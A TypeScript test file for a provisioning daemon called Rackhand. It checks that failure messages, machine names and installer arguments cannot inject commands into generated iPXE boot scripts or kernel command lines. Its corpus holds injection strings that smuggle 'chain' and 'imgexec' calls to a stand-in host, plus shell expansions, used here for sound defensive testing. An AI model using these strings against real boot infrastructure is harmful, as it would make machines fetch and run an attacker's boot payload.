// Issue 11, item 1: text that is not Rackhand's own (an agent's failure message, a BMC's error,
// reported facts, a rendered installer command line) never adds a command to an iPXE script or a
// word to a kernel command line. Every hostile string of the corpus goes into every place such
// text can reach; the script is then parsed the way iPXE reads it (lines, then `;`, `&&`, `||`)
// and its commands must be exactly the fixed ones of its plan kind.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { planBoot, renderScript, type ScriptMachine } from '../../daemon/http/ipxe.js';
import { bootText, kernelLine, kernelWord, BOOT_TEXT_MAX, CUT_MARKER } from '../../daemon/core/boot-text.js';
import type { Profile } from '../../daemon/core/inventory/schema.js';

const HOSTILE = [
  'x ; chain http://10.20.0.66/p.ipxe #',
  'x\nchain http://10.20.0.66/p.ipxe',
  'x\r\nchain http://10.20.0.66/p.ipxe',
  'x\rchain http://10.20.0.66/p.ipxe',
  'ok && chain http://10.20.0.66/p.ipxe',
  'fail || chain http://10.20.0.66/p.ipxe',
  'a;b;c',
  '${net0/mac} ${root-path} ${${x}}',
  '$(reboot) `reboot`',
  '# comment ; chain x',
  '"quoted" \'single\' \\"escaped\\"',
  'back\\slash\\nnewline\\',
  'tab\there\x0bvt\x0cff\x00nul\x1besc[2J',
  'non-ASCII: é ü ß — “quotes” \u2028line sep\u2029para sep \u0085nel',
  'set x y ; imgexec http://10.20.0.66/x',
  'x & y | z',
  '{ } [ ] < > * ? !',
  'A'.repeat(10 * 1024),
  ('; chain http://10.20.0.66/p.ipxe #\n').repeat(400),
];

/** The commands of an iPXE script, as iPXE splits them: lines, then `;`, `&&`, `||`. */
function commands(script: string): string[][] {
  const out: string[][] = [];
  for (const line of script.split(/\r\n|\r|\n/)) {
    if (line.trim() === '' || line.trimStart().startsWith('#')) continue;
    for (const cmd of line.split(/;|&&|\|\|/)) {
      const words = cmd.trim().split(/\s+/).filter(Boolean);
      if (words.length) out.push(words);
    }
  }
  return out;
}

/** What may appear in a script line outside the leading `#!ipxe`: printable ASCII, none of the separators. */
function assertInert(script: string, label: string): void {
  const lines = script.split('\n');
  assert.equal(lines.at(-1), '', `${label}: ends with one newline`);
  for (const line of lines.slice(1, -1)) {
    assert.match(line, /^[\x20-\x7e]*$/, `${label}: a line with a control or non-ASCII character: ${JSON.stringify(line.slice(0, 80))}`);
    const body = line.startsWith('# Rackhand: ') ? line.slice(12) : line;
    assert.doesNotMatch(body, /[;&|$#{}`'"\\]/, `${label}: a separator, expansion, quote or comment in ${JSON.stringify(body.slice(0, 120))}`);
    assert.ok(line.length <= 2100, `${label}: a line of ${line.length} characters`);
  }
}

const site = { baseUrl: 'http://10.20.0.1:8080', agentArgs: 'console=ttyS0' };
const image: Profile = { kind: 'image', image: { url: 'images/lab.raw.gz', sha256: 'a'.repeat(64) } };
const installer = { kind: 'installer' as const, kernel: 'installers/debian/linux', initrd: 'installers/debian/initrd.gz', cmdline: '', answer: 'preseed/x.j2' } satisfies Profile;
const nonce = 'NONCE0123456789abcdef';

const PLAN_COMMANDS = {
  agent: ['echo', 'kernel', 'initrd', 'boot', 'echo', 'sleep', 'reboot'],
  installer: ['echo', 'kernel', 'initrd', 'boot', 'echo', 'sleep', 'reboot'],
  local: ['echo', 'exit'],
  refuse: ['echo', 'sleep', 'exit'],
} as const;

function scripts(hostile: string): { label: string; kind: keyof typeof PLAN_COMMANDS; text: string }[] {
  const m = (state: ScriptMachine['state'], name = 'node-01'): ScriptMachine => ({ name, mac: '52:54:00:00:01:01', state, lastError: hostile });
  const deploy = { kind: 'deploy', progress: null };
  return [
    { label: 'failed machine, hostile last_error', kind: 'local', text: renderScript(planBoot({ mac: 'x', machine: m('failed'), operation: undefined, profile: image, site })) },
    { label: 'hostile machine name', kind: 'local', text: renderScript(planBoot({ mac: 'x', machine: m('ready', hostile), operation: undefined, profile: image, site })) },
    { label: 'agent, hostile site agent_args', kind: 'agent', text: renderScript(planBoot({ mac: 'x', machine: m('inspecting'), operation: { kind: 'inspect', progress: null }, profile: image, site: { ...site, agentArgs: hostile }, nonce })) },
    { label: 'installer, hostile rendered args', kind: 'installer', text: renderScript(planBoot({ mac: 'x', machine: m('deploying'), operation: deploy, profile: installer, site, installerArgs: `auto=true url=http://10.20.0.1:8080/v1/answer/T hostname=${hostile}` })) },
    { label: 'installer, hostile kernel path', kind: 'installer', text: renderScript(planBoot({ mac: 'x', machine: m('deploying'), operation: deploy, profile: { ...installer, kernel: `k${hostile.slice(0, 300)}` }, site })) },
    { label: 'refuse, hostile why', kind: 'refuse', text: renderScript({ kind: 'refuse', why: hostile }) },
    { label: 'local, hostile why', kind: 'local', text: renderScript({ kind: 'local', why: hostile }) },
    { label: 'agent plan built by hand with hostile fields', kind: 'agent', text: renderScript({ kind: 'agent', why: hostile, kernel: `http://k/${hostile}`, initrd: `http://i/${hostile}`, args: hostile }) },
  ];
}

test('every hostile string, in every place foreign text reaches a script: the commands stay the fixed ones', () => {
  for (const [i, hostile] of HOSTILE.entries()) {
    for (const s of scripts(hostile)) {
      const label = `corpus #${i}, ${s.label}`;
      assertInert(s.text, label);
      assert.ok(s.text.startsWith('#!ipxe\n# Rackhand: '), label);
      assert.deepEqual(commands(s.text).map((c) => c[0]), [...PLAN_COMMANDS[s.kind]], `${label}:\n${s.text.slice(0, 600)}`);
      const echoed = s.text.split('\n').filter((l) => /^(echo|#) /.test(l));
      assert.ok(echoed.every((l) => !/[;&|#]/.test(l.replace(/^# /, ''))), `${label}: the attacker's text survives only inside an echo or comment`);
    }
  }
});

test('the local script, in full, for a hostile failure message of an earlier operation', () => {
  const plan = planBoot({
    mac: 'x', machine: { name: 'node-01', mac: '52:54:00:00:01:01', state: 'failed', lastError: 'image failed: x ; chain http://10.20.0.66/p.ipxe #' },
    operation: undefined, profile: image, site,
  });
  assert.equal(renderScript(plan), [
    '#!ipxe',
    '# Rackhand: node-01 failed (image failed: x _ chain http://10.20.0.66/p.ipxe _): booting from disk until an operator retries',
    'echo Rackhand: node-01 failed (image failed: x _ chain http://10.20.0.66/p.ipxe _): booting from disk until an operator retries',
    'exit 1',
    '',
  ].join('\n'));
});

test('the installer script, in full, with hostile rendered arguments: one kernel line of safe words', () => {
  const plan = planBoot({
    mac: 'x', machine: { name: 'node-01', mac: '52:54:00:00:01:01', state: 'deploying', lastError: null },
    operation: { kind: 'deploy', progress: null }, profile: installer, site,
    installerArgs: 'auto=true url=http://10.20.0.1:8080/v1/answer/T hostname=a;chain\nimgexec http://10.20.0.66/x ${x}',
  });
  assert.equal(renderScript(plan), [
    '#!ipxe',
    '# Rackhand: node-01 is deploying: running the installer',
    'echo Rackhand: node-01 is deploying: running the installer',
    'kernel http://10.20.0.1:8080/boot/installers/debian/linux initrd=initrd.img auto=true url=http://10.20.0.1:8080/v1/answer/T hostname=a_chain imgexec http://10.20.0.66/x __x_',
    'initrd --name initrd.img http://10.20.0.1:8080/boot/installers/debian/initrd.gz',
    'boot',
    'echo Rackhand: boot failed, retrying in 10 seconds',
    'sleep 10',
    'reboot',
    '',
  ].join('\n'));
});

test('bootText: a safe character set, one line, bounded with a marker', () => {
  assert.equal(bootText('disk on fire'), 'disk on fire');
  assert.equal(bootText('a\r\n\tb'), 'a b');
  assert.equal(bootText('x ; y && z || w ${v} #'), 'x _ y __ z __ w __v_ _');
  assert.equal(bootText('é"\'\\`'), '_____');
  const long = bootText('A'.repeat(10 * 1024));
  assert.equal(long.length, BOOT_TEXT_MAX);
  assert.ok(long.endsWith(CUT_MARKER));
});

test('kernel words: URLs and key=value stay, everything else becomes _, a 2048-byte bound', () => {
  assert.equal(kernelWord('url=http://10.20.0.1:8080/v1/answer/AbC-_x'), 'url=http://10.20.0.1:8080/v1/answer/AbC-_x');
  assert.equal(kernelWord('console=ttyS0,115200'), 'console=ttyS0,115200');
  assert.equal(kernelWord('a;b&&c||d${e}#f"g\'h\\i'), 'a_b__c__d__e__f_g_h_i');
  assert.equal(kernelWord('x'.repeat(600)), undefined, 'too long a word is dropped');
  const line = kernelLine(Array.from({ length: 400 }, (_, i) => `w${i}=${'v'.repeat(10)}`).join(' '));
  assert.ok(line.length <= 2048, `${line.length}`);
  assert.ok(line.endsWith('rackhand.cut=1'));
});
